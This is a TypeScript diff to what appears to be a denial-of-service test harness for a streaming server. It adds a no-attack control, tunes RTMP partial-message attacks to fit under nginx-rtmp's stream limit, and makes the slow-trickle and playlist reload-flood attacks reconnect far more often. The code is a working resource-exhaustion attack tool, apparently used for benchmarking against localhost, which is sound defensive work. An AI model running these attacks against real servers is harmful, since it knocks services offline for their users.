@@ -36,7 +36,7 @@ export interface AttackOutcome {
   statuses: Record<string, number>;
 }
 
-export type AttackCase = 'pipelined-unread' | 'rtmp-partial-messages' | 'rtmp-slow-trickle' | 'idle-http' | 'reload-flood' | 'slow-reader';
+export type AttackCase = 'none' | 'pipelined-unread' | 'rtmp-partial-messages' | 'rtmp-slow-trickle' | 'idle-http' | 'reload-flood' | 'slow-reader';
 
 export interface AttackLimits {
   durationMs: number;
@@ -154,10 +154,11 @@ async function rtmpPartialMessages(target: AttackTarget, limits: AttackLimits): 
     const send = (message: Message) => socket.write(writer.write(encodeMessage(message)));
     send(connectCommand);
     send({ type: MessageType.SetChunkSize, timestamp: 0, streamId: 0, chunkSize: 1 << 16 });
+    // Chunk streams 3..31: all 29 stay under nginx-rtmp's default max_streams (32).
     for (let c = 0; c < 29 && !socket.destroyed && performance.now() < deadline; c++) {
       const length = 560_000;
-      socket.write(Buffer.concat([chunkHeader(4 + c, length, MessageType.Video), body]));
-      for (let sent = 1 << 16; sent + (1 << 16) < 0.9 * length && !socket.destroyed; sent += 1 << 16) socket.write(Buffer.concat([Uint8Array.of(0xc0 | (4 + c)), body]));
+      socket.write(Buffer.concat([chunkHeader(3 + c, length, MessageType.Video), body]));
+      for (let sent = 1 << 16; sent + (1 << 16) < 0.9 * length && !socket.destroyed; sent += 1 << 16) socket.write(Buffer.concat([Uint8Array.of(0xc0 | (3 + c)), body]));
       out.sent += 1;
       await drained(socket);
     }
@@ -171,8 +172,8 @@ async function rtmpPartialMessages(target: AttackTarget, limits: AttackLimits): 
 
 /**
  * (c) 200 connections that send one handshake byte every 200 ms and never publish; one that the
- * server closes is reopened (at most 2000 connects in all), so the attacker keeps trying to hold
- * every slot it can for the whole attack.
+ * server closes (or refuses) is reopened 500 ms later (at most 10000 connects in all), so the
+ * attacker keeps trying to hold every slot it can for the whole attack.
  */
 async function rtmpSlowTrickle(target: AttackTarget, limits: AttackLimits): Promise<AttackOutcome> {
   const out = outcome();
@@ -181,11 +182,11 @@ async function rtmpSlowTrickle(target: AttackTarget, limits: AttackLimits): Prom
   const live = new Set<Socket>();
   let attempts = 0;
   const hold = async () => {
-    while (!leaving.left && performance.now() < deadline && attempts < 2_000) {
+    while (!leaving.left && performance.now() < deadline && attempts < 10_000) {
       attempts += 1;
       const socket = await open(target.rtmpPort, out, leaving);
       if (!socket) {
-        await sleep(200);
+        await sleep(500);
         continue;
       }
       live.add(socket);
@@ -195,7 +196,7 @@ async function rtmpSlowTrickle(target: AttackTarget, limits: AttackLimits): Prom
         await sleep(200);
       }
       live.delete(socket);
-      await sleep(50);
+      await sleep(500);
     }
   };
   const holders = Array.from({ length: 200 }, hold);
@@ -248,33 +249,51 @@ function readResponse(socket: Socket, timeoutMs: number): Promise<{ status: numb
  * (e) 150 connections in a request loop on the legit stream's playlist: with blocking reload, each
  * asks for the next segment (`_HLS_msn`, held by the server) and asks again as soon as it is
  * answered (a 503 included); a server without blocking reload gets the same number of plain
- * playlist requests. At most 100000 requests.
+ * playlist requests. A connection the server closes is reopened 100 ms later. At most 100000
+ * requests and 30000 connects.
  */
 async function reloadFlood(target: AttackTarget, limits: AttackLimits): Promise<AttackOutcome> {
   const out = outcome();
   const leaving = { left: false };
   const deadline = performance.now() + limits.durationMs;
-  const sockets = await openMany(target.httpPort, 150, out, leaving);
+  const live = new Set<Socket>();
   let nextMsn: number | undefined;
-  const loop = async (socket: Socket) => {
-    while (!socket.destroyed && performance.now() < deadline && out.sent < 100_000) {
-      const path = target.blockingReload && nextMsn !== undefined ? `${target.playlistPath}?_HLS_msn=${nextMsn}` : target.playlistPath;
-      socket.write(getRequest(path));
-      out.sent += 1;
-      const res = await readResponse(socket, Math.max(100, deadline - performance.now()));
-      if (!res) return;
-      out.received += res.body.length;
-      out.statuses[res.status] = (out.statuses[res.status] ?? 0) + 1;
-      if (res.status === 200 && res.body.startsWith('#EXTM3U')) {
-        const playlist = parseMediaPlaylist(res.body, `http://127.0.0.1${target.playlistPath}`);
-        nextMsn = Math.max(nextMsn ?? 0, playlist.pendingMsn + 1);
+  let connects = 0;
+  const more = () => performance.now() < deadline && out.sent < 100_000;
+  const slot = async () => {
+    while (more() && connects < 30_000) {
+      connects += 1;
+      const socket = await open(target.httpPort, out, leaving);
+      if (!socket) {
+        await sleep(20);
+        continue;
       }
+      live.add(socket);
+      while (!socket.destroyed && more()) {
+        const path = target.blockingReload && nextMsn !== undefined ? `${target.playlistPath}?_HLS_msn=${nextMsn}` : target.playlistPath;
+        socket.write(getRequest(path));
+        out.sent += 1;
+        const res = await readResponse(socket, Math.max(100, deadline - performance.now()));
+        // No answer by the deadline: the socket stays for leave(); closed by the server: reconnect.
+        if (!res && !socket.destroyed) return;
+        if (!res) break;
+        out.received += res.body.length;
+        out.statuses[res.status] = (out.statuses[res.status] ?? 0) + 1;
+        if (res.status === 200 && res.body.startsWith('#EXTM3U')) {
+          const playlist = parseMediaPlaylist(res.body, `http://127.0.0.1${target.playlistPath}`);
+          nextMsn = Math.max(nextMsn ?? 0, playlist.pendingMsn + 1);
+        }
+      }
+      if (!socket.destroyed) return; // time is up: leave() closes it
+      live.delete(socket);
+      await sleep(100);
     }
   };
-  await Promise.all(sockets.map(loop));
+  const slots = Array.from({ length: 150 }, slot);
   const rest = deadline - performance.now();
   if (rest > 0) await sleep(rest);
-  leave(sockets, leaving);
+  leave([...live], leaving);
+  await Promise.all(slots);
   return out;
 }
 
@@ -306,12 +325,19 @@ async function slowReader(target: AttackTarget, limits: AttackLimits): Promise<A
   return out;
 }
 
+/** The control: no attacker, the same windows (how RSS and the stream drift on their own). */
+async function noAttack(_target: AttackTarget, limits: AttackLimits): Promise<AttackOutcome> {
+  await sleep(limits.durationMs);
+  return outcome();
+}
+
 export const attacks: Record<AttackCase, { label: string; run: (target: AttackTarget, limits: AttackLimits) => Promise<AttackOutcome> }> = {
+  none: { label: '(control) no attack', run: noAttack },
   'pipelined-unread': { label: '(a) 1 HTTP connection pipelining GETs of a file-served segment, never reading', run: pipelinedUnread },
   'rtmp-partial-messages': { label: '(b) 8 pre-auth RTMP connections x 29 large partial messages on separate chunk streams', run: rtmpPartialMessages },
   'rtmp-slow-trickle': { label: '(c) 200 slow-trickle RTMP connections that never publish (reconnecting)', run: rtmpSlowTrickle },
   'idle-http': { label: '(d) 2000 idle HTTP connections', run: idleHttp },
-  'reload-flood': { label: '(e) 150 connections looping blocking reloads (nginx-rtmp: plain playlist requests)', run: reloadFlood },
+  'reload-flood': { label: '(e) 150 connections looping blocking reloads, reconnecting (nginx-rtmp: plain playlist requests)', run: reloadFlood },
   'slow-reader': { label: '(f) 50 slow readers (5 KiB/s) of a file-served segment', run: slowReader },
 };
 
